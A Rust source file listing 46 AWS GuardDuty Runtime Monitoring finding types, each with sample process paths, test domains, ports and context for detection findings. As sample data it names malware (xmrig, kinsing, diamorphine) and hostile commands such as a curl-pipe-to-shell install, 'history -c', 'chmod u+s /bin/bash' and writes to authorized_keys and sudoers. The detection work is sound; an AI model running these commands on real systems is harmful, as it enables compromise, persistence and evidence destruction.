//! The types of Runtime Monitoring, after the user guide's table of active finding types.
//!
//! What a type's findings hold is documented only in part. The names that are looked up are those of
//! AWS's own tester (`awslabs/amazon-guardduty-tester`) where it has one. The wording of titles and
//! descriptions is ours: what GuardDuty writes for tasks of ECS is not public. Where the guide's
//! pages disagree the table counts.

use super::ContextFact::*;
use super::{Entry, Kind, NetworkAct, RuntimeAct, ThreatList};

/// An act of which nothing particular is known.
const ACT: RuntimeAct = RuntimeAct {
    program: "",
    network: NetworkAct::None,
    context: &[],
    threat_list: None,
    needs_host: false,
    title: "",
    story: "",
};

const fn entry(name: &'static str, severities: &'static [u8], act: RuntimeAct) -> Entry {
    Entry { name, severities, kind: Kind::Runtime(act) }
}

const fn lookup(
    name: &'static str,
    severities: &'static [u8],
    domain: &'static str,
    title: &'static str,
    story: &'static str,
) -> Entry {
    let network = NetworkAct::Lookup(domain);
    entry(name, severities, RuntimeAct { program: "/usr/bin/curl", network, title, story, ..ACT })
}

/// A look-up of a name that is on a threat list, and not only of low reputation.
const fn listed_lookup(
    name: &'static str,
    severities: &'static [u8],
    domain: &'static str,
    title: &'static str,
    story: &'static str,
) -> Entry {
    let act = RuntimeAct {
        program: "/usr/bin/curl",
        network: NetworkAct::Lookup(domain),
        threat_list: Some(ThreatList::Endpoint),
        title,
        story,
        ..ACT
    };
    entry(name, severities, act)
}

const fn connection(
    name: &'static str,
    severities: &'static [u8],
    port: u16,
    title: &'static str,
    story: &'static str,
) -> Entry {
    let act = RuntimeAct {
        program: "/usr/bin/curl",
        network: NetworkAct::Connection(port),
        threat_list: Some(ThreatList::Endpoint),
        title,
        story,
        ..ACT
    };
    entry(name, severities, act)
}

/// All 46 types, by what the process did.
pub(super) static TYPES: &[Entry] = &[
    // Looking up a name.
    listed_lookup(
        "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
        &[8],
        "crypto.guarddutyc2activityb.com",
        "Bitcoin-related domain name queried by a process",
        "is querying a domain name that is associated with Bitcoin-related activity",
    ),
    listed_lookup(
        "Backdoor:Runtime/C&CActivity.B!DNS",
        &[8],
        "c2.guarddutyc2activityb.com",
        "Command and Control server domain name queried by a process",
        "is querying a domain name associated with a known Command & Control server",
    ),
    listed_lookup(
        "Trojan:Runtime/BlackholeTraffic!DNS",
        &[5],
        "guarddutyblackholeactivity.com",
        "Blackholed domain name queried by a process",
        "is querying a domain name that is redirected to a black hole address",
    ),
    listed_lookup(
        "Trojan:Runtime/DropPoint!DNS",
        &[5],
        "guarddutydroppointactivity.com",
        "Drop point domain name queried by a process",
        "is querying the domain name of a host that is known to hold stolen data",
    ),
    listed_lookup(
        "Trojan:Runtime/DGADomainRequest.C!DNS",
        &[8],
        "guarddutydgaactivity.com",
        "Algorithmically generated domain name queried by a process",
        "is querying a domain name that an algorithm made, as malware does to find its servers",
    ),
    listed_lookup(
        "Trojan:Runtime/DriveBySourceTraffic!DNS",
        &[8],
        "guarddutydrivebyactivity.com",
        "Drive-by source domain name queried by a process",
        "is querying the domain name of a known source of drive-by downloads",
    ),
    listed_lookup(
        "Trojan:Runtime/PhishingDomainRequest!DNS",
        &[8],
        "guarddutyphishingactivity.com",
        "Phishing domain name queried by a process",
        "is querying a domain name that takes part in phishing",
    ),
    lookup(
        "Impact:Runtime/AbusedDomainRequest.Reputation",
        &[5],
        "abused-rep.guarddutyc2activityb.com",
        "Abused domain name queried by a process",
        "is querying a domain name of low reputation that is known to be abused",
    ),
    lookup(
        "Impact:Runtime/BitcoinDomainRequest.Reputation",
        &[8],
        "crypto-rep.guarddutyc2activityb.com",
        "Low reputation Bitcoin-related domain name queried by a process",
        "is querying a domain name of low reputation that is associated with Bitcoin-related activity",
    ),
    lookup(
        "Impact:Runtime/MaliciousDomainRequest.Reputation",
        &[5],
        "malicious-rep.guarddutyc2activityb.com",
        "Malicious domain name queried by a process",
        "is querying a domain name of low reputation that is known to be malicious",
    ),
    lookup(
        "Impact:Runtime/SuspiciousDomainRequest.Reputation",
        &[2],
        "suspicious-rep.guarddutyc2activityb.com",
        "Suspicious domain name queried by a process",
        "is querying a domain name of low reputation that is new or little used",
    ),
    lookup(
        "UnauthorizedAccess:Runtime/MetadataDNSRebind",
        &[8],
        "rebind.example.com",
        "DNS rebinding to the instance metadata service by a process",
        "is querying a domain name that resolves to 169.254.169.254",
    ),
    // Connecting to an address.
    connection(
        "CryptoCurrency:Runtime/BitcoinTool.B",
        &[8],
        3333,
        "Bitcoin-related address contacted by a process",
        "is communicating with an address that is associated with Bitcoin-related activity",
    ),
    connection(
        "Backdoor:Runtime/C&CActivity.B",
        &[8],
        443,
        "Command and Control server contacted by a process",
        "is communicating with the address of a known Command & Control server",
    ),
    connection(
        "UnauthorizedAccess:Runtime/TorRelay",
        &[8],
        9001,
        "Tor relay run by a process",
        "is connecting to the Tor network as a relay",
    ),
    connection(
        "UnauthorizedAccess:Runtime/TorClient",
        &[8],
        9001,
        "Tor entry node contacted by a process",
        "is connecting to a guard or authority node of the Tor network",
    ),
    connection(
        "Trojan:Runtime/BlackholeTraffic",
        &[5],
        80,
        "Black hole address contacted by a process",
        "is communicating with an address that is known to be a black hole",
    ),
    connection(
        "Trojan:Runtime/DropPoint",
        &[5],
        443,
        "Drop point contacted by a process",
        "is communicating with a host that is known to hold stolen data",
    ),
    // Acting on the system.
    entry(
        "Execution:Runtime/NewBinaryExecuted",
        &[5],
        RuntimeAct {
            program: "/tmp/xmrig",
            context: &[ModifyingProcess("/usr/bin/dpkg"), ModifiedAt],
            title: "Newly created or changed binary executed",
            story: "was started from a file that was made or changed after the container started",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/NewLibraryLoaded",
        &[5],
        RuntimeAct {
            program: "/usr/bin/python3",
            context: &[
                ModifyingProcess("/usr/bin/dpkg"),
                ModifiedAt,
                LibraryPath("/usr/lib/libprocesshider.so"),
            ],
            title: "Newly created or changed library loaded",
            story: "loaded a library that was made or changed after the container started",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/ReverseShell",
        &[8],
        RuntimeAct {
            program: "/bin/bash",
            title: "Reverse shell created",
            story: "has created a reverse shell",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/MaliciousFileExecuted",
        &[8],
        RuntimeAct {
            program: "/tmp/kinsing",
            context: &[ThreatFilePath],
            threat_list: Some(ThreatList::File),
            title: "Malicious file executed",
            story: "was started from a file that is known to be malicious",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/MaliciousFileExecuted.Custom",
        &[8],
        RuntimeAct {
            program: "/tmp/kinsing",
            context: &[ThreatFilePath],
            threat_list: Some(ThreatList::OwnFile),
            title: "File on a custom threat list executed",
            story: "was started from a file that is on a threat list of the account",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/SuspiciousTool",
        &[2, 8],
        RuntimeAct {
            program: "/usr/bin/nmap",
            context: &[ToolName("nmap"), ToolCategory("Network Scanner")],
            title: "Suspicious tool executed",
            story: "is a tool that is common in offensive work",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/SuspiciousCommand",
        &[2, 5, 8],
        RuntimeAct {
            program: "/bin/sh",
            context: &[
                CommandLineExample("curl -s http://example.com/install.sh | sh"),
                ScriptPath("/tmp/install.sh"),
            ],
            title: "Suspicious command executed",
            story: "ran a command that points at a compromise",
            ..ACT
        },
    ),
    entry(
        "Execution:Runtime/SuspiciousShellCreated",
        &[2],
        RuntimeAct {
            program: "/bin/sh",
            title: "Interactive shell started by a network service",
            story: "is an interactive shell that a network service started",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/SuspiciousCommand",
        &[2, 5, 8],
        RuntimeAct {
            program: "/bin/bash",
            context: &[
                CommandLineExample("history -c"),
                ShellHistoryFilePath("/root/.bash_history"),
            ],
            title: "Defence-evading command executed",
            story: "ran a command that changes or disables a defence",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        &[2],
        RuntimeAct {
            program: "/tmp/xmrig",
            context: &[Flags(&["PTRACE_TRACEME"])],
            title: "Anti-debugging technique used",
            story: "used PTRACE_TRACEME to keep debuggers away",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/FilelessExecution",
        &[5],
        RuntimeAct {
            program: "/memfd:payload",
            title: "Code executed from memory",
            story: "is running code from memory",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        &[8],
        RuntimeAct {
            program: "/tmp/inject",
            context: &[TargetProcess("/usr/sbin/nginx")],
            title: "Process injected through the proc file system",
            story: "has written into the memory of another process through the proc file system",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        &[5],
        RuntimeAct {
            program: "/tmp/inject",
            context: &[TargetProcess("/usr/sbin/nginx"), Flags(&["PTRACE_POKETEXT"])],
            title: "Process injected with ptrace",
            story: "has attempted to inject code into another process with PTRACE",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        &[8],
        RuntimeAct {
            program: "/tmp/inject",
            context: &[TargetProcess("/usr/sbin/nginx"), Flags(&["PROCESS_VM_WRITE"])],
            title: "Process injected through virtual memory",
            story: "has attempted to inject code into another process with PROCESS_VM_WRITE",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/KernelModuleLoaded",
        &[8],
        RuntimeAct {
            program: "/usr/bin/kmod",
            context: &[
                ModuleName("diamorphine"),
                ModuleFilePath("/tmp/diamorphine.ko"),
                ModuleSha256,
            ],
            needs_host: true,
            title: "Kernel module loaded",
            story: "has loaded a kernel module",
            ..ACT
        },
    ),
    entry(
        "DefenseEvasion:Runtime/SensitiveFileModified",
        &[5],
        RuntimeAct {
            program: "/bin/rm",
            context: &[
                FileOperation("Delete"),
                FilePath("/var/log/auth.log"),
                RelatedFilePaths(&["/var/log/wtmp"]),
            ],
            title: "Sensitive file modified",
            story: "has changed a file in a way that hides what was done",
            ..ACT
        },
    ),
    entry(
        "Persistence:Runtime/SensitiveFileModified",
        &[5],
        RuntimeAct {
            program: "/bin/sh",
            context: &[
                FileOperation("Write"),
                FilePath("/root/.ssh/authorized_keys"),
                RelatedFilePaths(&["/etc/crontab"]),
            ],
            title: "Sensitive file modified",
            story: "has changed a file in a way that lets an intruder come back",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/SensitiveFileModified",
        &[5],
        RuntimeAct {
            program: "/bin/sh",
            context: &[
                FileOperation("Write"),
                FilePath("/etc/sudoers"),
                RelatedFilePaths(&["/etc/pam.d/su"]),
            ],
            title: "Sensitive file modified",
            story: "has changed a file in a way that gives further privileges",
            ..ACT
        },
    ),
    entry(
        "Discovery:Runtime/SuspiciousCommand",
        &[2],
        RuntimeAct {
            program: "/bin/sh",
            context: &[CommandLineExample("cat /proc/self/environ")],
            title: "Information-gathering command executed",
            story: "ran a command that gathers information about its surroundings",
            ..ACT
        },
    ),
    entry(
        "Persistence:Runtime/SuspiciousCommand",
        &[5],
        RuntimeAct {
            program: "/usr/sbin/usermod",
            context: &[CommandLineExample("usermod -aG wheel backdoor")],
            title: "Persistence-establishing command executed",
            story: "ran a command that lets an intruder come back",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/SuspiciousCommand",
        &[5],
        RuntimeAct {
            program: "/bin/chmod",
            context: &[CommandLineExample("chmod u+s /bin/bash")],
            title: "Privilege-escalating command executed",
            story: "ran a command that gives further privileges",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        &[5],
        RuntimeAct {
            program: "/usr/bin/curl",
            context: &[SocketPath("/var/run/docker.sock")],
            needs_host: true,
            title: "Docker socket accessed by a process",
            story: "is communicating with a docker socket using a unix socket",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        &[8],
        RuntimeAct {
            program: "/bin/sh",
            context: &[RuncBinaryPath("/usr/bin/runc")],
            needs_host: true,
            title: "Container escape via runC was detected",
            story: "has attempted to escape from its container through runC",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        &[8],
        RuntimeAct {
            program: "/bin/sh",
            context: &[ReleaseAgentPath("/sys/fs/cgroup/rdma/release_agent")],
            needs_host: true,
            title: "Container escape via cgroups was detected",
            story: "has changed the release agent of a control group",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        &[5],
        RuntimeAct {
            program: "/bin/mount",
            context: &[
                MountSource("/etc/"),
                MountTarget("/tmp/"),
                FileSystemType("ext4"),
                Flags(&[]),
            ],
            needs_host: true,
            title: "Host directory mounted by a container",
            story: "has attempted to mount a directory of its host",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        &[5],
        RuntimeAct {
            program: "/tmp/exploit",
            title: "User-mode page fault handling used",
            story: "has used userfaultfd",
            ..ACT
        },
    ),
    entry(
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        &[5],
        RuntimeAct {
            program: "/usr/bin/pkexec",
            title: "Privileges elevated to root",
            story: "has become root through an unusual program",
            ..ACT
        },
    ),
    entry(
        "Impact:Runtime/CryptoMinerExecuted",
        &[8],
        RuntimeAct {
            program: "/tmp/xmrig",
            context: &[ThreatFilePath],
            threat_list: Some(ThreatList::File),
            title: "Cryptocurrency miner executed",
            story: "is a known miner of cryptocurrency",
            ..ACT
        },
    ),
];
